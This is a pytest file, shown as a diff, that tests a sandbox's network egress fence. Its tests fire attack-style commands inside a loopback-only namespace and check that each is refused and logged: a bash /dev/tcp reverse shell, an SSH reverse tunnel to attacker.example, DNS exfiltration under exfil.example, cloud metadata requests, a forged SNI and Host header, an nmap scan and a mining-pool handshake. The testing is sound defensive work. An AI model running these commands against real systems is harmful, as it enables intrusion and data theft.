@@ -1,0 +1,390 @@
+"""The egress fence, against real clients and attack tools and local stand-ins for the world.
+
+Names in policies map to 127.0.0.1 through `hosts:` (or through `LocalUpstream`'s resolver), and
+`LocalUpstream` turns the port a sandbox asked for into the port the local server really listens on.
+Nothing here leaves the test's loopback-only network namespace.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import ipaddress
+import shutil
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from corral import Deny, ExecResult, Policy, Sandbox
+from corral.egress.rules import IPAddress
+from corral.events import DnsQuery, NetConnect
+from servers import (
+    HOST_KEY_ALIAS,
+    http_server,
+    package_index,
+    ssh_server,
+    stratum_pool,
+    tcp_listener,
+    tls_server,
+    wait_for,
+)
+
+pytestmark = pytest.mark.root
+
+LOCAL = ipaddress.ip_address("127.0.0.1")
+
+
+class LocalUpstream:
+    """Maps (address, port) to local servers and names to chosen addresses; records what it was asked."""
+
+    def __init__(self, ports: dict[int, int], names: dict[str, str] | None = None) -> None:
+        self.ports = ports
+        self.names = {k: [ipaddress.ip_address(v)] for k, v in (names or {}).items()}
+        self.resolved: list[str] = []
+        self.dialed: list[tuple[str, int]] = []
+
+    async def resolve(self, name: str) -> list[IPAddress]:
+        self.resolved.append(name)
+        return self.names.get(name, [])
+
+    async def connect(
+        self, address: IPAddress, port: int
+    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        self.dialed.append((str(address), port))
+        if address != LOCAL or port not in self.ports:
+            raise ConnectionRefusedError(f"test upstream has nothing at {address} port {port}")
+        return await asyncio.open_connection("127.0.0.1", self.ports[port])
+
+
+def policy(egress: list[dict[str, Any]], hosts: dict[str, str] | None = None, **limits: Any) -> Policy:
+    network: dict[str, Any] = {"egress": egress, "hosts": hosts or {}}
+    if limits:
+        network["limits"] = limits
+    return Policy.from_dict({"version": 1, "network": network})
+
+
+def connects(sb: Sandbox) -> list[NetConnect]:
+    return [e for e in sb.events() if isinstance(e, NetConnect)]
+
+
+def denials(sb: Sandbox, layer: str = "egress") -> list[Deny]:
+    return [e for e in sb.events() if isinstance(e, Deny) and e.layer == layer]
+
+
+def show(r: ExecResult) -> str:
+    return f"exit {r.exit_code}\nstdout: {r.stdout!r}\nstderr: {r.stderr!r}"
+
+
+@pytest.fixture
+def web() -> Iterator[Any]:
+    with http_server() as s:
+        yield s
+
+
+WEB = "web.example.internal"
+
+
+def test_allowed_name_works_through_the_explicit_and_the_transparent_path(web: Any) -> None:
+    up = LocalUpstream({80: web.port})
+    p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
+    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+        r = sb.exec(f"curl -sS http://{WEB}/host && curl -sS --noproxy '*' http://{WEB}/host", text=True)
+        assert r.exit_code == 0, show(r)
+        assert r.stdout == WEB * 2
+        events = connects(sb)
+    assert [(e.via, e.decision, e.protocol, e.name, e.address) for e in events] == [
+        ("proxy", "allow", "http", WEB, "127.0.0.1"),
+        ("transparent", "allow", "http", WEB, "127.0.0.1"),
+    ]
+    assert all(e.bytes_in > 0 and e.bytes_out > 0 for e in events)
+    # Attributed on the host side to the process that connected.
+    assert all(e.process is not None and e.process.exe == "/usr/bin/curl" for e in events)
+
+
+def test_pip_installs_from_the_allowed_index_and_nothing_else(tmp_path: Path) -> None:
+    name = "pypi.example.internal"
+    with package_index(tmp_path / "index") as index:
+        up = LocalUpstream({80: index.port})
+        p = policy([{"host": name, "ports": [80], "protocols": ["http"]}], {name: "127.0.0.1"})
+        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+            r = sb.exec(
+                f"python3 -m pip install -q --disable-pip-version-check --no-cache-dir --target /tmp/site "
+                f"--trusted-host {name} --index-url http://{name}/simple/ corral-probe && "
+                "PYTHONPATH=/tmp/site python3 -c 'import corral_probe; print(corral_probe.VALUE)'",
+                text=True,
+                timeout=120,
+            )
+            assert r.exit_code == 0, show(r)
+            assert str(r.stdout).strip() == "42"
+            other = sb.exec(
+                "python3 -m pip download -q --disable-pip-version-check --no-cache-dir "
+                "--retries 0 --timeout 3 "
+                "-d /tmp/x --trusted-host other-index.example.internal "
+                "--index-url http://other-index.example.internal/simple/ corral-probe",
+                text=True,
+                timeout=60,
+            )
+            assert other.exit_code != 0
+            assert any(
+                d.what.startswith("other-index.example.internal") for d in denials(sb, "dns") + denials(sb)
+            )
+
+
+def test_tls_to_an_allowed_name_checks_the_sni(tmp_path: Path) -> None:
+    name = "files.example.internal"
+    with tls_server(name) as site:
+        up = LocalUpstream({443: site.port})
+        p = policy([{"host": name, "ports": [443]}], {name: "127.0.0.1"})
+        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+            sb.write_file("ca.pem", Path(site.cafile).read_bytes())
+            ok = sb.exec(f"curl -sS --cacert ca.pem https://{name}/host", text=True)
+            assert ok.exit_code == 0, show(ok)
+            assert ok.stdout == name
+            synthetic = str(sb.exec(f"getent hosts {name}", text=True).stdout).split()[0]
+            # The allowed name's address, with another server name in the ClientHello: domain fronting.
+            forged = sb.exec(
+                f"curl -sS -k --noproxy '*' --resolve evil.example:443:{synthetic} https://evil.example/",
+                text=True,
+            )
+            assert forged.exit_code != 0, show(forged)
+        assert site.sni == [name]
+    tls = [e for e in connects(sb) if e.protocol == "tls"]
+    assert [(e.decision, e.sni) for e in tls] == [("allow", name), ("deny", "evil.example")]
+    assert "TLS server name 'evil.example' does not match" in tls[1].reason
+
+
+def test_forged_host_header_is_cut(web: Any) -> None:
+    up = LocalUpstream({80: web.port})
+    p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
+    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+        r = sb.exec(f"curl -sS --noproxy '*' -H 'Host: evil.example' http://{WEB}/host", text=True)
+        assert r.exit_code != 0, show(r)
+        assert any("HTTP Host 'evil.example' does not match" in d.detail for d in denials(sb))
+    assert web.requests == []
+
+
+def test_ssh_is_allowed_only_where_named(tmp_path: Path) -> None:
+    git, https = "git.example.internal", "code.example.internal"
+    with ssh_server(tmp_path / "sshd") as sshd:
+        up = LocalUpstream({22: sshd.port, 443: sshd.port})
+        p = policy(
+            [{"host": git, "ports": [22], "protocols": ["ssh"]}, {"host": https, "ports": [443]}],
+            {git: "127.0.0.1", https: "127.0.0.1"},
+        )
+        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+            sb.write_file("key", Path(sshd.client_key).read_bytes())
+            sb.write_file("known_hosts", Path(sshd.known_hosts).read_bytes())
+            ssh = (
+                "chmod 600 key && ssh -F /dev/null -i key -o BatchMode=yes -o UserKnownHostsFile=known_hosts "
+                f"-o StrictHostKeyChecking=yes -o HostKeyAlias={HOST_KEY_ALIAS} -o ConnectTimeout=5"
+            )
+            ok = sb.exec(f"{ssh} -p 22 {sshd.user}@{git} echo via-ssh", text=True, timeout=30)
+            assert ok.exit_code == 0, show(ok)
+            assert "via-ssh" in str(ok.stdout)
+            # SSH to a host allowed for HTTPS only: the banner gives it away.
+            wrong = sb.exec(f"{ssh} -p 443 {sshd.user}@{https} true", text=True, timeout=30)
+            assert wrong.exit_code != 0, show(wrong)
+            # A reverse tunnel to a host no rule names.
+            tunnel = sb.exec(f"{ssh} -N -R 9000:localhost:22 -p 22 {sshd.user}@attacker.example", timeout=30)
+            assert tunnel.exit_code != 0
+        reasons = [d.detail for d in denials(sb)]
+        assert any("ssh to code.example.internal port 443 is not allowed" in r for r in reasons), reasons
+        assert any(d.what.startswith("attacker.example") for d in denials(sb, "dns")), denials(sb, "dns")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "nc -w 2 10.1.2.3 22",
+        "ncat -w 2 10.20.30.40 4444",
+        "python3 -c 'import socket; socket.create_connection((\"169.254.169.254\", 80), 2).recv(1)'",
+        "curl -sS -m 3 --noproxy '*' http://169.254.169.254/latest/meta-data/",
+    ],
+)
+def test_internal_and_metadata_addresses_are_refused_and_recorded(command: str) -> None:
+    with Sandbox(policy([]), keep_workspace=False) as sb:
+        sb.exec(command, timeout=20)
+        d = denials(sb)
+    assert d, "the attempt left no deny event"
+    assert d[0].process is not None and d[0].process.exe is not None
+    assert (
+        "private address" in d[0].detail
+        or "cloud metadata address" in d[0].detail
+        or "link-local" in d[0].detail
+    )
+
+
+def test_nmap_scan_is_refused_connection_by_connection() -> None:
+    if shutil.which("nmap") is None:
+        pytest.fail("nmap is not installed; scripts/setup installs it")
+    with Sandbox(policy([]), keep_workspace=False) as sb:
+        sb.exec("nmap -sT -Pn -n --max-retries 0 -p 22,80 10.0.0.0/30", timeout=60)
+        targets = {d.what for d in denials(sb)}
+    assert {"10.0.0.1 port 22", "10.0.0.2 port 80"} <= targets, targets
+
+
+def test_denied_names_get_nxdomain_without_any_upstream_query() -> None:
+    up = LocalUpstream({})
+    with Sandbox(
+        policy([{"host": "*.files.example.internal", "ports": [443]}]), keep_workspace=False, upstream=up
+    ) as sb:
+        r = sb.exec(
+            "getent hosts a.files.example.internal; getent hosts files.example.internal; "
+            "getent hosts $(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \\n').exfil.example",
+            text=True,
+        )
+        queries = [e for e in sb.events() if isinstance(e, DnsQuery)]
+    assert str(r.stdout).startswith("198.18.")
+    decisions = {
+        (q.name.split(".", 1)[1] if q.name.endswith("exfil.example") else q.name, q.decision) for q in queries
+    }
+    assert ("a.files.example.internal", "allow") in decisions
+    assert ("files.example.internal", "deny") in decisions  # a wildcard never covers the bare parent
+    assert ("exfil.example", "deny") in decisions
+    assert up.resolved == []  # answering DNS never asks anyone upstream
+
+
+def test_udp_ipv6_and_icmp_go_nowhere_and_udp_drops_are_recorded() -> None:
+    with Sandbox(policy([]), keep_workspace=False) as sb:
+        r = sb.exec(
+            "python3 -c '\n"
+            "import socket\n"
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+            "fails = 0\n"
+            "for i in range(300):\n"
+            '    try: s.sendto(b"x" * 512, ("192.0.2.9", 9))\n'
+            "    except OSError: fails += 1\n"
+            "print(fails)'; curl -sS -m 3 -6 'http://[2001:db8::1]/'; ping -c 1 -W 1 192.0.2.1",
+            text=True,
+        )
+        udp = [d for d in denials(sb) if d.what == "udp 192.0.2.9 port 9"]
+    assert str(r.stdout).splitlines()[0] == "300", show(r)
+    assert 1 <= len(udp) <= 100  # every drop refused; logging is rate-limited so a flood can't swamp corral
+
+
+def test_static_binary_that_ignores_proxy_settings_is_still_fenced(tmp_path: Path, web: Any) -> None:
+    source = tmp_path / "dial.c"
+    source.write_text(
+        "#include <arpa/inet.h>\n#include <stdio.h>\n#include <sys/socket.h>\n#include <unistd.h>\n"
+        "int main(int c, char **v) { struct sockaddr_in a = {AF_INET, htons(8080)}; inet_pton(AF_INET, v[1], "
+        "&a.sin_addr); int s = socket(AF_INET, SOCK_STREAM, 0); if (connect(s, (void *)&a, sizeof a)) "
+        '{ perror("connect"); return 1; } char r[] = "GET /host HTTP/1.0\\r\\nHost: 192.0.2.10\\r\\n\\r\\n"; '
+        "write(s, r, sizeof r - 1); char b[4096]; int n = read(s, b, sizeof b); return n > 0 ? 0 : 2; }\n"
+    )
+    subprocess.run(["gcc", "-static", "-O1", "-o", str(tmp_path / "dial"), str(source)], check=True)
+    up = LocalUpstream({8080: web.port})
+    # An address rule: this address, this port, plain HTTP. Mapped to the local server by the upstream.
+    p = policy([{"cidr": "192.0.2.10/32", "ports": [8080], "protocols": ["http"]}])
+    up.connect = _remap(up, "192.0.2.10")  # type: ignore[method-assign]
+    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+        sb.write_file("dial", (tmp_path / "dial").read_bytes())
+        ok = sb.exec("chmod +x dial && env -i ./dial 192.0.2.10", text=True)
+        bad = sb.exec("env -i ./dial 192.0.2.11", text=True)
+        events = connects(sb)
+    assert ok.exit_code == 0, show(ok)
+    assert bad.exit_code != 0
+    assert [(e.via, e.decision, e.destination) for e in events] == [
+        ("transparent", "allow", "192.0.2.10"),
+        ("transparent", "deny", "192.0.2.11"),
+    ]
+
+
+def _remap(up: LocalUpstream, address: str) -> Any:
+    async def connect(addr: IPAddress, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        up.dialed.append((str(addr), port))
+        assert str(addr) == address
+        return await asyncio.open_connection("127.0.0.1", up.ports[port])
+
+    return connect
+
+
+def test_stratum_is_cut_even_where_any_protocol_is_allowed() -> None:
+    pool = "pool.example.internal"
+    with stratum_pool() as miner_pool:
+        up = LocalUpstream({3333: miner_pool.port})
+        p = policy([{"host": pool, "ports": [3333], "protocols": ["any"]}], {pool: "127.0.0.1"})
+        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+            r = sb.exec(
+                "python3 -c 'import socket; "
+                's = socket.create_connection(("pool.example.internal", 3333), 5); '
+                's.sendall(b"{\\"id\\": 1, \\"method\\": \\"mining.subscribe\\", \\"params\\": '
+                '[\\"cpuminer/2.5\\"]}\\n"); print(s.recv(100))\'',
+                text=True,
+            )
+            assert wait_for(lambda: bool(connects(sb)))
+            events = connects(sb)
+        assert miner_pool.lines == []
+    assert str(r.stdout).strip() == "b''", show(r)
+    assert [(e.protocol, e.decision) for e in events] == [("stratum", "deny")]
+    assert "mining protocol" in events[0].reason
+
+
+def test_allowed_name_resolving_to_internal_or_metadata_addresses_is_refused() -> None:
+    up = LocalUpstream(
+        {443: 1}, names={"rebind.example.com": "10.0.0.5", "meta.example.com": "169.254.169.254"}
+    )
+    p = policy([{"host": "rebind.example.com", "ports": [443]}, {"host": "meta.example.com", "ports": [443]}])
+    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+        sb.exec(
+            "curl -sS -m 5 https://rebind.example.com/; curl -sS -m 5 https://meta.example.com/", timeout=30
+        )
+        reasons = [d.detail for d in denials(sb)]
+    assert "rebind.example.com resolves to 10.0.0.5, a private address" in reasons
+    assert "meta.example.com resolves to 169.254.169.254, a cloud metadata address" in reasons
+    assert up.dialed == []
+
+
+def test_connection_rate_limit(web: Any) -> None:
+    up = LocalUpstream({80: web.port})
+    p = policy(
+        [{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"}, connections_per_minute=3
+    )
+    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+        codes = [sb.exec(f"curl -sS -o /dev/null http://{WEB}/").exit_code for _ in range(4)]
+        reasons = [d.detail for d in denials(sb)]
+    assert codes[:3] == [0, 0, 0] and codes[3] != 0
+    assert reasons == ["over 3 connections per minute"]
+
+
+def test_bytes_out_budget_cuts_an_upload(web: Any) -> None:
+    up = LocalUpstream({80: web.port})
+    p = policy(
+        [{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"}, bytes_out_per_minute="4KiB"
+    )
+    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+        r = sb.exec(
+            f"head -c 200000 /dev/zero | curl -sS -m 10 --data-binary @- http://{WEB}/upload", timeout=30
+        )
+        what = [d.what for d in denials(sb)]
+    assert r.exit_code != 0
+    assert "bytes_out" in what
+    assert all(len(req.body) < 8192 for req in web.requests)
+
+
+def test_a_reverse_shell_listener_is_never_reached() -> None:
+    with tcp_listener() as catcher, Sandbox(policy([]), keep_workspace=False) as sb:
+        sb.exec(f"bash -c 'bash -i >& /dev/tcp/203.0.113.7/{catcher.port} 0>&1'", timeout=20)
+        assert not wait_for(lambda: bool(catcher.connections), timeout=0.5)
+        assert any(d.what == f"203.0.113.7 port {catcher.port}" for d in denials(sb))
+
+
+def test_without_corral_serving_the_fence_the_sandbox_has_no_network(web: Any) -> None:
+    up = LocalUpstream({80: web.port})
+    p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
+    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
+        assert sb._fence is not None
+        sb._fence.close()  # what a crashed proxy leaves behind
+        r = sb.exec(
+            f"curl -sS -m 3 --noproxy '*' http://198.18.0.1/; getent hosts {WEB}", text=True, timeout=30
+        )
+    assert r.exit_code != 0
+    assert web.requests == []
+
+
+def test_proxy_clients_are_told_why_with_a_403() -> None:
+    with Sandbox(policy([]), keep_workspace=False) as sb:
+        r = sb.exec("curl -sS -m 5 https://denied.example.internal/", text=True)
+    assert r.exit_code != 0
+    assert "CONNECT tunnel failed, response 403" in str(r.stderr), show(r)
